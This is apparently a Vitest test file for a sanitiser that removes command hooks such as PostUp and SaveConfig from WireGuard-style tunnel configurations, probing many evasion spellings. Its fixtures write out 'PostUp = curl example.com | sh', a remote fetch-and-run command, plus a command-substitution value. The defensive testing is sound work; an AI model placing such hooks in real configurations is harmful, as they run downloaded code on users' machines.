import { describe, expect, it } from 'vitest';
import { withoutCommands } from '#core/connections/exports/tunnel-commands.ts';

const harmless = '[Interface]\nPrivateKey = a\nAddress = 10.0.0.2/32\n\n[Peer]\nPublicKey = b\n';

describe('a tunnel configuration', () => {
  it.each(['PostUp', 'PreUp', 'PostDown', 'PreDown', 'SaveConfig', 'POSTUP', 'postup'])(
    'loses its line %s and keeps its settings',
    (name) => {
      const config = harmless.replace('\n\n', `\n${name} = curl example.com | sh\n\n`);
      expect(withoutCommands(config)).toEqual({
        text: harmless,
        leftOut: [`${name} = curl example.com | sh`],
      });
    },
  );

  it.each([
    '  PostUp=x',
    '\tPostUp\t=x',
    'Post\0Up = x',
    'PostUp = x # harmless',
    'PostUp = x\r',
    'PostUp\r= x',
    '\rPostUp = x\r',
    'MTU = 1280\rPostUp = x',
    'MTU = 1280\u2028PostUp = x',
    'PostUp = a = b',
    'SaveConf\u0130g = true',
    '\uFEFFPostUp = x',
    'PostUp',
    'Unknown = x',
    'MTU = $(x)',
    'PublicKey = of another section',
    '# a comment\rPostUp = x',
    '# turned \u202E around',
    '[Interface] = x',
  ])('loses %j, and is written anew without it', (line) => {
    const config = harmless.replace('\n\n', `\n${line}\n\n`);
    expect(withoutCommands(config)).toEqual({ text: harmless, leftOut: [line.trim()] });
  });

  it('is written anew with the known spelling of its names, one line feed a line', () => {
    const config =
      '\uFEFF[interface]\r\nprivatekey=a=\r\n\r\nMTU\t= 1280 # low\r\nPostUp = x\r\n[PEER]\r\n';
    expect(withoutCommands(config).text).toBe(
      '[Interface]\nPrivateKey = a=\nMTU = 1280\n\n[Peer]\n',
    );
  });

  it.each(['[Other]', '  [Other]', '\u2028[Peer]', '//[Other]', '[Interface'])(
    'loses what follows a section that is not known: %j',
    (section) => {
      const config = `${harmless}${section}\nEndpoint = x:1\n[Peer]\n`;
      const { text, leftOut } = withoutCommands(config);
      expect(text).toBe(`${harmless}\n[Peer]\n`);
      expect(leftOut).toEqual([section.trim(), 'Endpoint = x:1']);
    },
  );

  it('loses settings before any section, and keeps those after another line that is lost', () => {
    const [first = '', ...rest] = harmless.split('\n');
    const config = ['MTU = 1280', first, 'PostUp = x', ...rest].join('\n');
    expect(withoutCommands(config)).toEqual({
      text: harmless,
      leftOut: ['MTU = 1280', 'PostUp = x'],
    });
  });

  it('is no section with a mark of the byte order within', () => {
    expect(withoutCommands('[Inter\uFEFFface]\nMTU = 1280\n').text).toBe('');
  });

  it('loses a mark of the byte order, which no reader expects, without a word', () => {
    expect(withoutCommands(`\uFEFF${harmless}`)).toEqual({ text: harmless, leftOut: [] });
  });

  it.each([
    '# PostUp = x\n',
    '# Название, 日本 & more; $\n',
    'Endpoint = postup.example.com:1\n',
    'Endpoint = [2001:db8::1]:51820 # home\n',
    '[Interface]\nI1 = <b 0xc0ff><t><r 16>\nH1 = 5-1000\n',
    ' presharedkey=\tab+/=\n',
    ' \t \n',
    '  [Peer]  \n',
    ' \t # a comment\n',
    '',
    '\r\n',
    'PersistentKeepalive = 25',
  ])('stays byte for byte with %j', (line) => {
    for (const config of [`${harmless}${line}`, `${harmless.replaceAll('\n', '\r\n')}${line}`])
      expect(withoutCommands(config)).toEqual({ text: config, leftOut: [] });
  });

  it('is judged in time that grows with its length alone', () => {
    const texts = [
      ' '.repeat(1e6),
      '\r'.repeat(1e6),
      'a='.repeat(5e5),
      '[\n'.repeat(5e5),
      '#'.repeat(1e6),
    ];
    const before = process.cpuUsage();
    for (const text of texts) withoutCommands(`${harmless}${text}x\n`);
    expect(process.cpuUsage(before).user / 1000).toBeLessThan(2000);
  });
});
